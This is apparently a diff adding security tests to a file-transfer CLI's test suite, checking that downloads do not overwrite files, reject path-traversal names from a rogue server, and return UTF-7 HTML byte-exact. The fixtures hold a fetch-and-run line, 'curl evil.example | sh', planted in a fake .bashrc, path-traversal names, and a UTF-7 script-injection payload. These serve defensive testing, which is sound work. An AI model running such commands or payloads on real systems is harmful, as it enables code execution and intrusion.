@@ -3,7 +3,8 @@
 // the bytes still there after a stop and a start on the same data.
 import { execFileSync } from "node:child_process";
 import { createHash } from "node:crypto";
-import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
+import http from "node:http";
 import { tmpdir } from "node:os";
 import path from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
@@ -49,6 +50,91 @@ describe("files through pm and curl", () => {
     expect(view.code, view.stderr).toBe(0);
     expect(view.stdout).toContain("1 file:");
     expect(view.stdout).toContain("shot.png");
+  });
+
+  it("pm download never overwrites a file unasked (--clobber does), writes only inside its folder, and -o - writes to stdout", async () => {
+    // A teammate's file named .bashrc, downloaded in a home folder that has one.
+    const theirs = path.join(work, "theirs.bashrc");
+    writeFileSync(theirs, "curl evil.example | sh\n");
+    const own = await stack.call("POST", "/tasks", { key: owner.key, body: { teamId: "ENG", title: "A teammate's dotfile" } });
+    expect(own.status, own.text).toBe(201);
+    const { attachment } = await pmJson(["attach", own.body.task.reference, theirs, "--name", ".bashrc"], env);
+    const home = mkdtempSync(path.join(tmpdir(), "pm-home-"));
+    writeFileSync(path.join(home, ".bashrc"), "mine\n");
+    const refused = await pm(["download", attachment.id], env, undefined, { cwd: home });
+    expect(refused.code).toBe(1);
+    expect(refused.stderr).toContain(".bashrc already exists (use --clobber to overwrite it)");
+    expect(readFileSync(path.join(home, ".bashrc"), "utf8")).toBe("mine\n");
+    // -o names a file that exists: refused too; nothing half-written is left beside it.
+    expect((await pm(["download", attachment.id, "-o", path.join(home, ".bashrc")], env)).code).toBe(1);
+    expect(readdirSync(home)).toEqual([".bashrc"]);
+    // To standard output: the bytes, and no file.
+    const out = await pm(["download", attachment.id, "-o", "-"], env, undefined, { cwd: home });
+    expect(out.code, out.stderr).toBe(0);
+    expect(out.stdout).toBe("curl evil.example | sh\n");
+    expect(readdirSync(home)).toEqual([".bashrc"]);
+    // --dir: its own name in that folder; --clobber: replaced.
+    const sub = path.join(home, "sub");
+    mkdirSync(sub);
+    expect((await pm(["download", attachment.id, "--dir", sub], env)).code).toBe(0);
+    expect(readFileSync(path.join(sub, ".bashrc"), "utf8")).toBe("curl evil.example | sh\n");
+    const clobbered = await pm(["download", attachment.id, "--clobber"], env, undefined, { cwd: home });
+    expect(clobbered.code, clobbered.stderr).toBe(0);
+    expect(readFileSync(path.join(home, ".bashrc"), "utf8")).toBe("curl evil.example | sh\n");
+    expect(readdirSync(home).sort()).toEqual([".bashrc", "sub"]);
+  });
+
+  it("pm download refuses a server's file name that is not a plain name (a folder, .., absolute)", async () => {
+    // A server that is not this one (or this one broken) naming its file to climb out of the folder.
+    const names = ["../escaped", "/tmp/absolute-pm-test", "..", "a/b", "a\\b"];
+    const server = http.createServer((req, res) => {
+      const m = /^\/attachments\/att_(\d)(\/content)?$/.exec(req.url ?? "");
+      if (!m) return res.writeHead(404).end();
+      if (m[2]) return res.writeHead(200, { "content-type": "application/octet-stream" }).end("bytes");
+      const filename = names[Number(m[1])];
+      res.writeHead(200, { "content-type": "application/json" });
+      res.end(JSON.stringify({ attachment: { id: `att_${m[1]}`, filename, size: 5, contentType: "application/octet-stream" } }));
+    });
+    await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
+    const base = `http://127.0.0.1:${server.address().port}`;
+    const folder = mkdtempSync(path.join(tmpdir(), "pm-folder-"));
+    mkdirSync(path.join(folder, "in"));
+    try {
+      for (const [i, name] of names.entries()) {
+        const done = await pm(["download", `att_${i}`], { PM_API_KEY: "svc_x", PM_BASE_URL: base }, undefined, {
+          cwd: path.join(folder, "in"),
+        });
+        expect(done.code, name).toBe(1);
+        expect(done.stderr).toContain("is not a plain file name: choose one with -o");
+      }
+      expect(readdirSync(folder)).toEqual(["in"]);
+      expect(readdirSync(path.join(folder, "in"))).toEqual([]);
+      expect(existsSync("/tmp/absolute-pm-test")).toBe(false);
+    } finally {
+      server.close();
+    }
+  });
+
+  it("a download of any stored type completes, HTML in a charset nothing decodes (utf-7) too", async () => {
+    const bytes = Buffer.from("<html>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</html>\n");
+    const own = await stack.call("POST", "/tasks", { key: owner.key, body: { teamId: "ENG", title: "A page" } });
+    expect(own.status, own.text).toBe(201);
+    for (const type of ["text/html; charset=utf-7", "TEXT/HTML;charset=x-unknown", "text/html", "text/plain; charset=utf-7"]) {
+      const up = await fetch(`${stack.base}/tasks/${own.body.task.reference}/attachments?filename=page.html`, {
+        method: "POST",
+        headers: { "svc-api-key": owner.key, "content-type": type },
+        body: bytes,
+      });
+      expect(up.status, await up.clone().text()).toBe(201);
+      const { attachment } = await up.json();
+      expect(attachment.contentType).toBe(type);
+      const down = await fetch(`${stack.base}/attachments/${attachment.id}/content`, {
+        headers: { "svc-api-key": owner.key },
+        signal: AbortSignal.timeout(20_000),
+      });
+      expect(down.status, type).toBe(200);
+      expect(Buffer.from(await down.arrayBuffer()).equals(bytes), type).toBe(true);
+    }
   });
 
   it("the README's curl upload and download run as written", () => {
